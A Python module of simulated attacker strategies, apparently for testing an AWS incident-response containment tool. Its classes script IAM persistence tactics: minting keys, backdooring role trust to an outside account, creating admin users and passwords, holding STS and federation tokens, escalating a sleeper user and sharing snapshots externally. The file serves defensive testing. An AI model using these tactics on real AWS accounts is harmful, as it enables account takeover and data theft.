"""The strategies of the attacker, one row each: what it did before, what it does once it notices, and what a responder is given to contain.

`setup(scene)` builds the account by orders that leave no trace. `prepare(hand)` and `turn(hand)` are the attacker's, in its own process. `targets(scene)`
is what the analyst types behind %contain: what the trace of the key would have shown by then.
"""
import json

from attacker import ADMIN, ALLOW_ALL, DENY, Refused

TRUST = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}]}


def trusting(who):
    return json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": who}, "Action": "sts:AssumeRole"}]})


class Strategy:
    """Polls, and does nothing else: what the others begin with."""
    words, threads, watched = "polls with its key", 1, ("ListUserPolicies", "member")

    @property
    def name(self):
        return type(self).__name__

    def setup(self, scene):
        """Who is there besides the user `mallory`, an administrator with one key."""

    def prepare(self, hand):
        """Before anybody looks."""

    def turn(self, hand):
        """Again and again, once a change is noticed."""

    def targets(self, scene):
        return [scene.key["access_key_id"]]

    def again(self, scene):
        """What the second run needs behind the first one's words."""
        return ""

    def others(self, scene):
        """Names that %undo has to be given besides mallory's."""
        return []


def new_key(hand, user, name=None):
    return hand.take(name or "key of " + user, hand.any("iam", "CreateAccessKey", UserName=user))


class Polls(Strategy):
    pass


class NewKeys(Strategy):
    words = "makes itself a second key, and another one whenever there is room"

    def turn(self, hand):
        new_key(hand, hand.user, hand.fresh("key"))


class DeletesOwnKeys(Strategy):
    words = "makes a new key and deletes the old one, again and again"

    def turn(self, hand):
        name = hand.fresh("key")
        key = new_key(hand, hand.user, name)
        for other, old in list(hand.keys.items()):
            if other != name:
                hand.ask(key, "iam", "DeleteAccessKey", UserName=hand.user, AccessKeyId=old["access_key_id"])
                hand.drop(other)


class Reactivates(Strategy):
    words = "activates its key again"

    def turn(self, hand):
        for key in list(hand.keys.values()):
            hand.tried(lambda key=key: hand.any("iam", "UpdateAccessKey", UserName=hand.user, AccessKeyId=key["access_key_id"], Status="Active"))


class TakesDeniesAway(Strategy):
    words = "takes every policy away that it did not have before"
    threads = 2

    def turn(self, hand):
        for name in hand.any("iam", "ListUserPolicies", UserName=hand.user).all("member"):
            hand.tried(lambda name=name: hand.any("iam", "DeleteUserPolicy", UserName=hand.user, PolicyName=name))
        for arn in hand.any("iam", "ListAttachedUserPolicies", UserName=hand.user).all("PolicyArn"):
            if arn != ADMIN:
                hand.tried(lambda arn=arn: hand.any("iam", "DetachUserPolicy", UserName=hand.user, PolicyArn=arn))


class NewUsers(Strategy):
    words = "makes administrators with keys of their own"

    def turn(self, hand):
        name = hand.fresh("svc")
        hand.any("iam", "CreateUser", UserName=name)
        hand.any("iam", "AttachUserPolicy", UserName=name, PolicyArn=ADMIN)
        new_key(hand, name)


class Passwords(Strategy):
    words = "gives itself and a new user a password for the console"

    def turn(self, hand):
        hand.tried(lambda: hand.any("iam", "CreateLoginProfile", UserName=hand.user, Password="Long-enough-1"))
        name = hand.fresh("human")
        hand.any("iam", "CreateUser", UserName=name)
        hand.any("iam", "AttachUserPolicy", UserName=name, PolicyArn=ADMIN)
        hand.any("iam", "CreateLoginProfile", UserName=name, Password="Long-enough-1")


class SessionTokens(Strategy):
    words = "holds sessions of GetSessionToken, one with an MFA device of its own that may ask IAM"

    def prepare(self, hand):
        hand.take("session", hand.any("sts", "GetSessionToken", DurationSeconds=129600))
        serial = hand.any("iam", "CreateVirtualMFADevice", VirtualMFADeviceName="phone").one("SerialNumber")
        hand.any("iam", "EnableMFADevice", UserName=hand.user, SerialNumber=serial, AuthenticationCode1="123456", AuthenticationCode2="654321")
        hand.insist(lambda: hand.take("session with MFA", hand.any("sts", "GetSessionToken", SerialNumber=serial, TokenCode="123456")))

    def turn(self, hand):
        hand.take(hand.fresh("session"), hand.any("sts", "GetSessionToken"))
        new_key(hand, hand.user, hand.fresh("key"))


class Federates(Strategy):
    words = "holds sessions of GetFederationToken, which outlive the key"

    def prepare(self, hand):
        hand.take("partner", hand.any("sts", "GetFederationToken", Name="partner", Policy=ALLOW_ALL, DurationSeconds=129600))

    def turn(self, hand):
        hand.take(hand.fresh("partner"), hand.any("sts", "GetFederationToken", Name="p", Policy=ALLOW_ALL))


class ChainsRoles(Strategy):
    words = "sits in a role's session, and from there in another's; begins new ones"

    def setup(self, scene):
        scene.role("deploy", ADMIN, trust=scene.key["arn"])
        scene.role("ops", ADMIN, trust="arn:aws:iam::%s:role/deploy" % scene.account)

    def prepare(self, hand):
        first = hand.assume("deploy", hand.keys["key"], "deploy")
        hand.assume("ops", first, "ops")

    def turn(self, hand):
        for key in list(hand.keys.values()):
            for role in ("deploy", "ops"):
                hand.tried(lambda key=key, role=role: hand.assume(hand.fresh(role), key, role))

    def targets(self, scene):
        return [scene.key["access_key_id"], "role/deploy", "role/ops"]

    def others(self, scene):
        return ["deploy", "ops"]


class BackdoorsTrust(Strategy):
    words = "lets another account into a role that was there"

    def setup(self, scene):
        scene.role("backup", ADMIN, trust="arn:aws:iam::%s:root" % scene.account)

    def turn(self, hand):
        hand.any("iam", "UpdateAssumeRolePolicy", RoleName="backup", PolicyDocument=trusting(hand.given["outsider"]["arn"]))
        hand.assume(hand.fresh("backup"), hand.outsider, "backup")

    def others(self, scene):
        return ["backup"]


class NewRoles(Strategy):
    words = "makes a role that another account may assume"

    def turn(self, hand):
        name = hand.fresh("Support")
        hand.any("iam", "CreateRole", RoleName=name, AssumeRolePolicyDocument=trusting(hand.given["outsider"]["arn"]))
        hand.any("iam", "AttachRolePolicy", RoleName=name, PolicyArn=ADMIN)
        hand.assume(name, hand.outsider, name)


class LiftsSleeper(Strategy):
    words = "makes an administrator of a harmless user whose key it stole as well"

    def setup(self, scene):
        scene.sleeper = scene.user("sleeper")

    def prepare(self, hand):
        hand.hold("sleeper", hand.given["more"]["sleeper"])

    def turn(self, hand):
        hand.any("iam", "PutUserPolicy", UserName="sleeper", PolicyName="work", PolicyDocument=ALLOW_ALL)
        hand.any("iam", "AttachUserPolicy", UserName="sleeper", PolicyArn=ADMIN)

    def others(self, scene):
        return ["sleeper"]


class JoinsGroups(Strategy):
    words = "puts a harmless user into the administrators' group"

    def setup(self, scene):
        scene.sleeper = scene.user("sleeper")
        scene.iam.create_group(GroupName="admins")
        scene.iam.attach_group_policy(GroupName="admins", PolicyArn=ADMIN)

    def prepare(self, hand):
        hand.hold("sleeper", hand.given["more"]["sleeper"])

    def turn(self, hand):
        hand.any("iam", "AddUserToGroup", GroupName="admins", UserName="sleeper")

    def others(self, scene):
        return ["sleeper"]


class NewPolicyVersions(Strategy):
    words = "makes a new default version of a policy that a harmless user has"

    def setup(self, scene):
        scene.sleeper = scene.user("sleeper")
        arn = scene.iam.create_policy(PolicyName="reports", PolicyDocument=ALLOW_ALL.replace('"*"', '"s3:GetObject"', 1))["Policy"]["Arn"]
        scene.iam.attach_user_policy(UserName="sleeper", PolicyArn=arn)

    def prepare(self, hand):
        hand.hold("sleeper", hand.given["more"]["sleeper"])

    def turn(self, hand):
        hand.any("iam", "CreatePolicyVersion", PolicyArn="arn:aws:iam::%s:policy/reports" % hand.account, PolicyDocument=ALLOW_ALL, SetAsDefault="true")

    def others(self, scene):
        return ["sleeper"]


class FillsPolicies(Strategy):
    words = "has filled its inline policies and its attachments to the limit, and its boundary with everything"
    watched = ("GetUser", "PermissionsBoundaryArn")

    def setup(self, scene):
        scene.fill("mallory")

    def turn(self, hand):
        hand.tried(lambda: hand.any("iam", "PutUserPermissionsBoundary", UserName=hand.user, PermissionsBoundary=ADMIN))
        hand.tried(lambda: hand.any("iam", "DeleteUserPermissionsBoundary", UserName=hand.user))


class FillsMeanwhile(Strategy):
    words = "fills the inline policies while the denies are being written"
    threads = 2

    def turn(self, hand):
        for name in hand.any("iam", "ListUserPolicies", UserName=hand.user).all("member"):
            if name != "big":
                hand.tried(lambda name=name: hand.any("iam", "DeleteUserPolicy", UserName=hand.user, PolicyName=name))
        big = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "arn:aws:s3:::" + "x" * 1900}]}
        hand.any("iam", "PutUserPolicy", UserName=hand.user, PolicyName="big", PolicyDocument=json.dumps(big))
        hand.tried(lambda: hand.any("iam", "DetachUserPolicy", UserName=hand.user, PolicyArn=DENY))


class RenamesItself(Strategy):
    words = "renames its user, so that calls by name go nowhere"

    def turn(self, hand):
        name = hand.fresh("mallory")
        hand.any("iam", "UpdateUser", UserName=hand.user, NewUserName=name)
        hand.user = name


class BreaksGlass(Strategy):
    words = "tags itself as a break-glass user"

    def turn(self, hand):
        hand.any("iam", "TagUser", UserName=hand.user, **{"Tags.member.1.Key": "ir:break-glass", "Tags.member.1.Value": "true"})

    def again(self, scene):
        return " --override " + scene.key["arn"]


class OtherCredentials(Strategy):
    words = "makes credentials of services and SSH keys"

    def turn(self, hand):
        hand.tried(lambda: hand.any("iam", "CreateServiceSpecificCredential", UserName=hand.user, ServiceName="codecommit.amazonaws.com"))
        hand.any("iam", "UploadSSHPublicKey", UserName=hand.user, SSHPublicKeyBody="ssh-rsa AAAA " + hand.fresh("ssh"))


class SharesSnapshots(Strategy):
    words = "shares a snapshot and an image with another account"

    def setup(self, scene):
        scene.snapshot, scene.image = scene.make_snapshot(), scene.make_image()

    def turn(self, hand):
        hand.any("ec2", "ModifySnapshotAttribute", SnapshotId=hand.given["more"]["snapshot"], Attribute="createVolumePermission",
                 OperationType="add", **{"UserId.1": hand.given["outsider"]["account"]})
        hand.any("ec2", "ModifyImageAttribute", ImageId=hand.given["more"]["image"], **{"LaunchPermission.Add.1.UserId": hand.given["outsider"]["account"]})


class Floods(Strategy):
    words = "asks so much that AWS throttles the account, and makes keys and users on the way"
    threads = 4

    def turn(self, hand):
        hand.tried(lambda: new_key(hand, hand.user, hand.fresh("key")))
        name = hand.fresh("svc")
        hand.any("iam", "CreateUser", UserName=name)
        hand.any("iam", "AttachUserPolicy", UserName=name, PolicyArn=ADMIN)
        new_key(hand, name)


class StolenFromInstance(Strategy):
    words = "has the credentials of an instance's role, and of the role elsewhere"
    watched = ("ListRolePolicies", "member")

    def setup(self, scene):
        scene.role("web", ADMIN, trust="ec2.amazonaws.com")

    def prepare(self, hand):
        hand.hold("instance", hand.given["more"]["instance"])

    def turn(self, hand):
        hand.any("iam", "UpdateAssumeRolePolicy", RoleName="web", PolicyDocument=trusting(hand.given["outsider"]["arn"]))
        hand.assume(hand.fresh("web"), hand.outsider, "web")

    def targets(self, scene):
        return ["role/web --level full"]

    def others(self, scene):
        return ["web"]


ROWS = [Polls(), NewKeys(), DeletesOwnKeys(), Reactivates(), TakesDeniesAway(), NewUsers(), Passwords(), SessionTokens(), Federates(), ChainsRoles(),
        BackdoorsTrust(), NewRoles(), LiftsSleeper(), JoinsGroups(), NewPolicyVersions(), RenamesItself(), FillsPolicies(), FillsMeanwhile(), BreaksGlass(),
        OtherCredentials(), SharesSnapshots(), StolenFromInstance(), Floods()]
BY_NAME = {one.name: one for one in ROWS}
